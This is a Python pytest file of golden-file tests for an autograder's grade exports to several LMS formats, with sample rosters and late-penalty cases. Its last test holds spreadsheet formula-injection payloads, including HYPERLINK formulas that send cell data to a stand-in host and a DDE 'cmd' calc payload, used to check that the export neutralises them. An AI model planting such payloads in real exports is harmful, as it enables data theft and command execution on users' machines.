"""Golden files for every export format: the exact bytes and notices, with and without the LMS's roster.

Six students under the policy '10%/day,max=50%' on a 10-point lab: on time, late, missing, an error, a name with
a comma and non-ASCII letters, and a time-out so late that the cap applies. Regenerate with ``--update-goldens``.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from autograder.export import FILE_EXTENSIONS, FORMATS, ScoreRow, export
from autograder.model import Lateness, RowStatus
from autograder.record.late import DAY, HOUR, assess, parse_late_policy

DUE = datetime(2024, 3, 4, 23, 59, tzinfo=timezone(timedelta(hours=-5)))
POLICY = parse_late_policy("10%/day,max=50%")


def _row(student: str, name: str, email: str, sis_id: str | None, lms_id: str | None, username: str | None,
         score: float | None, status: RowStatus, late: float | None) -> ScoreRow:
    submitted = None if score is None else DUE + timedelta(seconds=late if late else -HOUR)
    lateness = assess(DUE, submitted, None, POLICY) if submitted else Lateness()
    return ScoreRow(student, name, email, sis_id, lms_id, username, score, 10.0, status, submitted, lateness)


ROWS = (
    _row("101", "Doe, Jane", "jdoe@example.edu", "S001", "101", "jdoe", 8.5, RowStatus.GRADED, None),
    _row("102", "Zoë Ångström", "zoe@example.edu", "S002", "102", "zangstrom", 9.0, RowStatus.GRADED, 1.5 * DAY),
    _row("103", "Thi Nguyen", "tn@example.edu", "S003", "103", "tnguyen", None, RowStatus.MISSING, None),
    _row("104", "Ann Lee", "alee@example.edu", None, "104", "alee", 0.0, RowStatus.ERROR, None),
    _row("105", "Müller, Jürgen", "jm@example.edu", "0042", None, "jmuller", 7.333333, RowStatus.GRADED, 30.0),
    _row("106", "Chloé Dubois", "cd@example.edu", "S006", "106", "cdubois", 6.0, RowStatus.TIMEOUT, 10 * DAY),
)
"""Final scores: 8.5, 7 (2 started days), none, 0, 6.33 (one started day), 1 (10 days, capped at 50%)."""

CANVAS_ROSTER = b"\xef\xbb\xbf" + """\
Student,ID,SIS User ID,SIS Login ID,Section,Lab 1 (48100),Lab 3 (48213),Current Points
    Points Possible,,,,,10.00,10.00,(read only)
"Doe, Jane",101,S001,jdoe,CS101-01,9.00,,9.00
"Ångström, Zoë",102,S002,zangstrom,CS101-01,7.50,5.00,12.50
"Nguyen, Thi",103,S003,tnguyen,CS101-02,6.00,,6.00
"Lee, Ann",104,,alee,CS101-02,8.00,,8.00
"Müller, Jürgen",205,0042,jmuller,CS101-01,10.00,,10.00
"Student, Test",999,,3f9a2c,CS101-01,,,
""".encode()

MOODLE_ROSTER = b"\xef\xbb\xbf" + """\
Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,\
Last modified (submission),Last modified (grade),Feedback comments
Participant 101,Jane Doe,jdoe@example.edu,Submitted for grading,,10.00,Yes,"Monday, 4 March 2024, 10:59 PM",-,
Participant 102,Zoë Ångström,zoe@example.edu,Submitted for grading,,10.00,Yes,"Wednesday, 6 March 2024, 11:59 AM",-,
Participant 103,Thi Nguyen,tn@example.edu,No submission,,10.00,Yes,-,-,
Participant 104,Ann Lee,alee@example.edu,Submitted for grading,,10.00,No,"Monday, 4 March 2024, 9:59 PM",-,
Participant 8812005,Jürgen Müller,jm@example.edu,Submitted for grading,,10.00,Yes,"Monday, 4 March 2024, 11:59 PM",-,
Participant 106,Chloé Dubois,cd@example.edu,Submitted for grading,,10.00,Yes,"Thursday, 14 March 2024, 11:59 PM",-,
""".encode()

_BLACKBOARD_CELLS = [
    ["Last Name", "First Name", "Username", "Student ID", "Last Access", "Availability",
     "Lab 3 [Total Pts: 10 Score] |664617", "Weighted Total [Total Pts: up to 0 Percentage] |664600"],
    ["Doe", "Jane", "jdoe", "S001", "2024-03-04 22:59:00", "Available", "", ""],
    ["Müller", "Jürgen", "jmuller", "0042", "2024-03-05 00:00:30", "Available", "", ""],
]
BLACKBOARD_ROSTER = b"\xff\xfe" + "".join(
    "\t".join(f'"{cell}"' for cell in cells) + "\r\n" for cells in _BLACKBOARD_CELLS
).encode("utf-16-le")

BRIGHTSPACE_ROSTER = b"\xef\xbb\xbf" + (
    b"OrgDefinedId,Username,Last Name,First Name,Email,"
    b"Lab 3 Points Grade <Numeric MaxPoints:10 Weight:5 Category:Labs>,End-of-Line Indicator\n"
    b"#S001,#jdoe,Doe,Jane,jdoe@example.edu,,#\n"
    b"#0042,#jmuller,M\xc3\xbcller,J\xc3\xbcrgen,jm@example.edu,5,#\n"
)

ROSTERS = {
    "canvas": ("grades.csv", CANVAS_ROSTER),
    "moodle": ("worksheet.csv", MOODLE_ROSTER),
    "blackboard": ("gc_download.xls", BLACKBOARD_ROSTER),
    "brightspace": ("export.csv", BRIGHTSPACE_ROSTER),
}
"""The LMS's own download for each LMS format; the other formats are given Canvas's, which they do not use."""


def roster_file(folder: Path, fmt: str) -> Path:
    name, content = ROSTERS.get(fmt, ROSTERS["canvas"])
    path = folder / name
    path.write_bytes(content)
    return path


def notices_text(notices: tuple[str, ...], rows: int) -> str:
    return f"rows written: {rows}\n" + "".join(f"- {notice}\n" for notice in notices)


@pytest.mark.parametrize("with_roster", [False, True], ids=["plain", "roster"])
@pytest.mark.parametrize("fmt", FORMATS)
def test_export_matches_golden(
    fmt: str, with_roster: bool, tmp_path: Path, golden: Callable[[str, bytes | str], None]
) -> None:
    roster = roster_file(tmp_path, fmt) if with_roster else None
    out = export(ROWS, fmt, assignment="Lab 3", max_score=10, roster_file=roster)
    name = f"export/{fmt}{'-roster' if with_roster else ''}"
    golden(f"{name}{FILE_EXTENSIONS[fmt]}", out.content)
    golden(f"{name}.notices.txt", notices_text(out.notices, out.rows))


HOSTILE_ROWS = (
    _row('=HYPERLINK("https://evil.example/?"&A1,"open")', '=HYPERLINK("https://evil.example","Doe, Jane")',
         "@evil.example", "+1-555", "101", "-2+3", 8.5, RowStatus.GRADED, None),
    _row("@SUM(1+1)*cmd|' /C calc'!A0", "Ann;=1+1 Lee", "a\n-b@example.edu", "\t=S2", None, "\r=u2", -0.0,
         RowStatus.ERROR, None),
    _row("-42", "-", "-0", "-3.5", "-42", "-0042", 7.0, RowStatus.GRADED, 1.5 * DAY),
)
"""Student-controlled text a spreadsheet would run as a formula, next to numbers (and a lone '-') that must stay."""


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_text_is_neutralised_in_every_format(fmt: str, golden: Callable[[str, bytes | str], None]) -> None:
    out = export(HOSTILE_ROWS, fmt, assignment="Lab 3", max_score=10)
    golden(f"export/hostile/{fmt}{FILE_EXTENSIONS[fmt]}", out.content)
    golden(f"export/hostile/{fmt}.notices.txt", notices_text(out.notices, out.rows))
